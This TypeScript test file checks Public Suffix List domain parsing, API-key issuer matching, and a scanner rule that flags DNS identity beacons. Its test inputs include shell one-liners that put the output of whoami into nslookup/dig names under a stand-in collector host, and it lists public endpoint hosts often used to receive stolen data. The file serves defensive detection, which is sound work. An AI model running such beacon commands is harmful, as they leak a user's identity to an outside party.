/**
 * Registrable domains through the Public Suffix List (tldts, private section included): multi-label
 * country suffixes (`co.uk`, `com.au`), platform suffixes where each customer has a domain of their
 * own (`github.io` user pages, S3 bucket endpoints, `workers.dev`), addresses and single labels
 * (none), international names (one punycode form), trailing dots, ports and upper case. Then the
 * two places that use it: a key named after a service sent only to that service's domain
 * (namedIssuer), and the user's identity in the labels of a name a script resolves
 * (bash-identity-beacon). Unit checks of the domain logic name real platforms (nothing is sent);
 * scans use reserved hosts only.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ANYONE_HOSTS, normalHost, registrable, siteOf } from '../capabilities/domains.js';
import { namedIssuer } from '../capabilities/issuers.js';
import { scanScript } from './skills.js';

describe('registrable: the Public Suffix List decides where a domain starts', () => {
  it('a country suffix of two labels keeps the owner label left of it', () => {
    assert.equal(registrable('api.acme.co.uk'), 'acme.co.uk');
    assert.equal(registrable('shop.example.com.au'), 'example.com.au');
    assert.equal(registrable('a.b.example.co.jp'), 'example.co.jp');
    assert.equal(registrable('portal.example.gov.uk'), 'example.gov.uk');
    // the list's own suffixes a hand-kept table missed (`ltd.uk`, `com.br`, `gen.in`)
    assert.equal(registrable('www.example.ltd.uk'), 'example.ltd.uk');
    assert.equal(registrable('api.example.com.br'), 'example.com.br');
    assert.equal(registrable('x.example.gen.in'), 'example.gen.in');
    // a two-letter label that is no suffix stays a domain of its own
    assert.equal(registrable('api.io.example'), 'io.example');
  });

  it('a public suffix itself has no registrable domain', () => {
    for (const h of ['co.uk', 'com.au', 'com', 'github.io', 'vercel.app', 's3.amazonaws.com'])
      assert.equal(registrable(h), undefined, h);
  });

  it("a platform's customer hosts are domains of their own, flagged as anyone's", () => {
    assert.deepEqual(siteOf('alice.github.io'), { domain: 'alice.github.io', anyone: true });
    assert.deepEqual(siteOf('docs.alice.github.io'), { domain: 'alice.github.io', anyone: true });
    assert.deepEqual(siteOf('my-bucket.s3.amazonaws.com'), {
      domain: 'my-bucket.s3.amazonaws.com',
      anyone: true,
    });
    for (const h of [
      'relay.workers.dev',
      'drop.vercel.app',
      'x.pages.dev',
      'x.herokuapp.com',
      'x.ngrok-free.app',
      'x.netlify.app',
      'x.blob.core.windows.net',
    ])
      assert.equal(siteOf(h)?.anyone, true, h);
    // the platform's own API host is no customer's
    assert.deepEqual(siteOf('api.github.com'), { domain: 'github.com', anyone: false });
  });

  it('hosts the list does not know but anyone gets an endpoint under are kept as data', () => {
    for (const h of [
      'webhook.site',
      'x.webhook.site',
      'eo1234.m.pipedream.net',
      'abc.oast.fun',
      'x.loca.lt',
      'res.openai.azure.com',
      'x.r2.cloudflarestorage.com',
    ])
      assert.equal(siteOf(h)?.anyone, true, h);
    // every entry is a registrable domain of the ICANN section, so it can match at all
    for (const d of ANYONE_HOSTS) assert.equal(registrable(d), d, d);
  });

  it('addresses, single labels and computed names', () => {
    for (const h of ['203.0.113.7', '[2001:db8::1]', '2001:db8::1', '::1', '[::1]:8080'])
      assert.equal(siteOf(h), undefined, h);
    assert.equal(registrable('localhost'), undefined);
    assert.equal(registrable('*.ns.example'), 'ns.example');
    assert.equal(registrable('*.co.uk'), undefined);
  });

  it('case, trailing dots, ports and international names come to one form', () => {
    assert.equal(registrable('API.Example.COM.'), 'example.com');
    assert.equal(registrable('api.example.com:8443'), 'example.com');
    assert.equal(registrable('bücher.example'), 'xn--bcher-kva.example');
    assert.equal(registrable('shop.XN--BCHER-KVA.example'), 'xn--bcher-kva.example');
    assert.equal(normalHost('[2001:DB8::1]:443'), '2001:db8::1');
    assert.equal(normalHost('Api.Example.com.'), 'api.example.com');
  });
});

describe('namedIssuer reads the domain through the list', () => {
  const k = (n: string) => [{ env: n }];
  it('a service under a two-label country suffix', () => {
    assert.equal(namedIssuer(k('ACME_API_KEY'), ['api.acme.com.au'])?.name, 'acme.com.au');
    assert.equal(namedIssuer(k('ACME_API_KEY'), ['API.ACME.co.uk.'])?.name, 'acme.co.uk');
  });
  it("a customer host on a platform is nobody's service", () => {
    assert.equal(namedIssuer(k('ACME_API_KEY'), ['acme.github.io']), undefined);
    assert.equal(namedIssuer(k('ACME_API_KEY'), ['acme.up.railway.app']), undefined);
    assert.equal(namedIssuer(k('ACME_API_KEY'), ['acme.tunnelmole.net']), undefined);
    assert.equal(namedIssuer(k('ACME_API_KEY'), ['acme.webhook.site']), undefined);
    assert.equal(namedIssuer(k('ACME_API_KEY'), ['acme.s3.amazonaws.com']), undefined);
  });
});

describe('bash-identity-beacon: the identity sits left of a constant registrable domain', () => {
  const beacon = (code: string) =>
    scanScript('run.sh', code).findings.some((f) => f.ruleId === 'bash-identity-beacon');
  it("a domain of someone's own carries it", () => {
    assert.ok(beacon('#!/bin/sh\nnslookup "$(whoami).t.collect.example"\n'));
    assert.ok(beacon('#!/bin/sh\ndig +short "$(whoami).collect.example"\n'));
  });
  it('a public suffix right of it is a name of somebody else, never the sender', () => {
    assert.ok(!beacon('#!/bin/sh\ndig +short "$(whoami).co.uk"\n'));
    assert.ok(!beacon('#!/bin/sh\ndig +short "$(whoami).github.io"\n'));
  });
});
